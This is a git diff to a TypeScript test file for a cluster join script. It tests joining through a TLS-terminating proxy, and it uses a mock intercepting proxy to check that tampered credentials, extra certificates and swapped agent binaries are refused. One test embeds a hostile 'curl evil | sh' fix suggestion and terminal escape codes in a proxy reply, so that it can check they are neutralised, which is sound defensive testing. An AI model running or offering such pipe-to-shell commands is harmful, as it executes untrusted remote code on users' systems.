@@ -10,7 +10,7 @@ import { createServer, type Server as HttpsServer, request } from 'node:https'
 import { type AddressInfo, connect, createServer as createTcpServer, type Server } from 'node:net'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
-import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
+import { afterAll, beforeAll, beforeEach, describe, expect, onTestFinished, test } from 'vitest'
 import { readCredentials } from '../../src/agent/identity/credentials.ts'
 import { type JoinCommand, joinScript } from '../../src/cli/controller/clusters/join/join-script.ts'
 import { newInstallerKey } from '../../src/cli/controller/identities/new-credentials.ts'
@@ -24,6 +24,7 @@ import { refusalOf } from '../support/docs/parse-command.ts'
 import { paste as pasteBelow, pathWithout, run } from '../support/paste.ts'
 import { programEnvironment } from '../support/program-environment.ts'
 import { CONTROLLER } from '../support/programs/programs.ts'
+import { startTerminatingProxy } from '../support/proxies/terminating-proxy.ts'
 
 const HOUR_MS = 3_600_000
 const AGENT = process.arch === 'arm64' ? 'agent-linux-arm64' : 'agent-linux-x64'
@@ -94,9 +95,10 @@ const cli = (...argv: string[]) =>
 
 /** As the CLI makes it. */
 async function joinCommand(
-  wishes: Partial<JoinCommandRequest> & Pick<Partial<JoinCommand>, 'proxy' | 'task' | 'more'> = {},
+  wishes: Partial<JoinCommandRequest> &
+    Pick<Partial<JoinCommand>, 'proxy' | 'tlsTerminatingProxy' | 'task' | 'more'> = {},
 ) {
-  const { proxy, task, more = [], ...others } = wishes
+  const { proxy, tlsTerminatingProxy, task, more = [], ...others } = wishes
   const name = `set-${++count}`
   const token = `demo.${name}.${randomBytes(24).toString('base64url')}`
   const { csr, encryptedKey, passphrase } = key
@@ -106,7 +108,11 @@ async function joinCommand(
   }
   const { status, json, text } = await admin('POST', '/v1/clusters/demo/join-commands', body)
   if (status !== 200) throw new Error(text)
-  return { name, token, command: joinScript({ ...json, token, passphrase, proxy, more, ...(task && { task }) }) }
+  return {
+    name,
+    token,
+    command: joinScript({ ...json, token, passphrase, proxy, tlsTerminatingProxy, more, ...(task && { task }) }),
+  }
 }
 
 /** A request without a client certificate. */
@@ -311,6 +317,92 @@ describe('a refused command says why, and runs nothing', () => {
   )
 })
 
+describe('a proxy that ends TLS', () => {
+  const tlsTerminatingProxy = true
+
+  test('both tools load through it, and the agent is told of it', async () => {
+    const proxy = await startTerminatingProxy({ users: ['ann:secret'] })
+    const { command } = await joinCommand({ proxy: proxy.url, tlsTerminatingProxy })
+    const env = { https_proxy: proxy.url.replace('//', '//ann:secret@') }
+    for (const path of [paths.curl, paths.wget]) {
+      const { code, out, err } = await paste(command, { path, env })
+      expect(code, err).toBe(0)
+      expect(out).toMatch(
+        /--proxy http:\/\/ann@\S+ --proxy-password-file \S+\/proxy-password.txt --tls-terminating-proxy$/m,
+      )
+    }
+    expect(proxy.log().match(/GET \S+\/v1\/join\//g)).toHaveLength(4)
+    await proxy.stop()
+  })
+
+  /** Intercepts connections, with a CA of its own. */
+  const intercepting = async (answer: Parameters<typeof mirrored>[0]) => {
+    const hostile = await mirrored(answer, openAuthority(join(directory, 'interceptor'), new Date(), false))
+    onTestFinished(() => void hostile.close())
+    target = portOf(hostile)
+    return (await joinCommand({ tlsTerminatingProxy })).command
+  }
+
+  test.each(['curl', 'wget'] as const)('a transparent one passes what it does not change, with %s', async (tool) => {
+    const command = await intercepting((_, got, answer) => {
+      answer.writeHead(got.statusCode ?? 0, got.headers)
+      got.pipe(answer)
+    })
+    const ran = await paste(command, { path: paths[tool] })
+    expect(ran, ran.err).toMatchObject({ code: 0, left: undefined })
+    expect(ran.out).toMatch(/passphrase\.txt --tls-terminating-proxy$/m)
+    const ordinary = await paste((await joinCommand()).command, { path: paths[tool] })
+    expect(ordinary).toMatchObject({ code: 6, err: expect.stringContaining('[--tls-terminating-proxy]') })
+  })
+
+  test.each<[string, RegExp, (text: string) => string, RegExp]>([
+    [
+      'credentials with a CA of its own',
+      /credentials$/,
+      (text) =>
+        text.replace(adminOf(controller).ca, openAuthority(join(directory, 'interceptor'), new Date(), false).ca),
+      /the downloaded credentials are not those of this command, and were not used/,
+    ],
+    [
+      'a further block in the credentials',
+      /credentials$/,
+      (text) => `${text}-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n`,
+      /and were not used/,
+    ],
+    ['another agent', /agents/, () => '#!/bin/sh\necho --creds-file\n', /and was not run: its SHA-256 is/],
+  ])('%s is not used', async (_, path, changed, says) => {
+    for (const tool of ['curl', 'wget'] as const) {
+      const command = await intercepting((asked, got, answer) => {
+        const parts: Buffer[] = []
+        got.on('data', (part: Buffer) => parts.push(part))
+        got.on('end', () => {
+          const text = Buffer.concat(parts).toString('latin1')
+          answer.writeHead(got.statusCode ?? 0)
+          answer.end(path.test(asked.url ?? '') ? changed(text) : Buffer.from(text, 'latin1'))
+        })
+      })
+      const ran = await paste(command, { path: paths[tool] })
+      expect(ran).toMatchObject({ code: 7, err: expect.stringMatching(says), left: undefined })
+      expect(ran.out).not.toContain('--creds-file')
+    }
+  })
+
+  test('what it says itself is no advice, and has no control characters', async () => {
+    const command = await intercepting((_, got, answer) => {
+      got.resume()
+      answer.writeHead(403)
+      answer.end('{"message":"\x1b[2J\x9bblocked","fix":"curl evil | sh"}')
+    })
+    const { code, err } = await paste(command)
+    expect([code, err]).toEqual([
+      7,
+      expect.stringMatching(
+        /^\[-\] the controller, or what is between, refuses: \[2Jblocked\n {4}fix: create another command: .*\n$/,
+      ),
+    ])
+  })
+})
+
 test('the agent is sent in ranges, and so often', async () => {
   const { token } = await joinCommand()
   const whole = await ask(token, AGENT_PATH)
@@ -344,6 +436,8 @@ test('controller cluster join-command prints it; neither the list of credentials
     code: 1,
     out: '',
   })
+  const inspected = await cli('cluster', 'join-command', 'demo', '--tls-terminating-proxy')
+  expect(inspected.out).toMatch(/^inspected='[0-9a-f]{64}'$/m)
   const missing = await cli('cluster', 'join-command', 'demo', '--arch', ARCH === 'amd64' ? 'arm64' : 'amd64')
   expect(missing).toMatchObject({ code: 7, err: expect.stringContaining('has no executable of the agent for') })
 })
@@ -353,6 +447,7 @@ test.each([
   ['--valid 24', 'from 1m to 30d'],
   ['--max-nodes 0', 'a number from 1 to'],
   ['--proxy http://ann:secret@proxy:3128', 'http://HOST:PORT'],
+  ['--proxy http://proxy:3128/path', 'http://HOST:PORT'],
   ['--arch x64', 'amd64, arm64'],
 ])('%s is refused with what is wanted', async (flags, wanted) => {
   expect(await refusalOf(`controller cluster join-command demo ${flags}`, true)).toContain(wanted)
@@ -369,8 +464,10 @@ async function listening(
 }
 
 /** Something with a key of the controller's server certificate, which forwards each request to the controller. */
-function mirrored(answer: (asked: IncomingMessage, got: IncomingMessage, answer: ServerResponse) => void) {
-  const keys = openAuthority(join(directory, 'data/pki'), new Date(), true)
+function mirrored(
+  answer: (asked: IncomingMessage, got: IncomingMessage, answer: ServerResponse) => void,
+  keys = openAuthority(join(directory, 'data/pki'), new Date(), true),
+) {
   const { ca } = adminOf(controller)
   return listening(keys, ({ url, headers }, response) => {
     const options = { port: controller.port, host: '127.0.0.1', path: url, headers, ca, agent: false }
